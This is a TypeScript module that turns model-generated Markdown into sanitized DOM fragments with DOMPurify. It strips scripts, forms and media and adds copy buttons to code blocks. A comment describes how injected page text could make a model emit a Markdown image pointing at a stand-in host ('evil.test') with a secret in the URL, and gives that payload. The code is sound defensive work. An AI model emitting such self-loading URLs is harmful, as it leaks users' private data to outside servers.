/**
 * Model text to safe DOM: marked turns Markdown into HTML, DOMPurify removes anything active
 * (scripts, event handlers, javascript: URLs, forms), and the result comes back as a
 * DocumentFragment, so no sanitized string is ever assigned to innerHTML. Links open in a new
 * tab without an opener. Code blocks get a copy button.
 */
import DOMPurify from "dompurify";
import { marked } from "marked";
import { t } from "../shared/i18n.js";

/**
 * Images and media are dropped too: an image URL in model output loads by itself, which is how
 * injected page text would smuggle data out (`![](https://evil.test/?q=<secret>)`). Links
 * need a click.
 */
const FORBIDDEN_TAGS = [
  "style",
  "form",
  "input",
  "button",
  "textarea",
  "select",
  "iframe",
  "object",
  "embed",
  "img",
  "picture",
  "video",
  "audio",
  "source",
];

DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  if (node instanceof HTMLAnchorElement) {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer");
  }
});

export function renderMarkdown(text: string): DocumentFragment {
  const html = marked.parse(text, { async: false, gfm: true, breaks: false });
  const fragment = DOMPurify.sanitize(html, {
    RETURN_DOM_FRAGMENT: true,
    FORBID_TAGS: FORBIDDEN_TAGS,
    FORBID_ATTR: ["style"],
  });
  for (const pre of fragment.querySelectorAll("pre")) addCopyButton(pre);
  return fragment;
}

function addCopyButton(pre: HTMLPreElement): void {
  const button = document.createElement("button");
  button.type = "button";
  button.className = "copy-code";
  button.textContent = t("copyButton");
  button.setAttribute("aria-label", t("copyCode"));
  button.addEventListener("click", () => {
    const code = pre.querySelector("code")?.textContent ?? pre.textContent ?? "";
    navigator.clipboard.writeText(code).then(
      () => flash(button, t("copied")),
      () => flash(button, t("copyFailed")),
    );
  });
  pre.append(button);
}

function flash(button: HTMLButtonElement, label: string): void {
  button.textContent = label;
  setTimeout(() => {
    button.textContent = t("copyButton");
  }, 1_500);
}
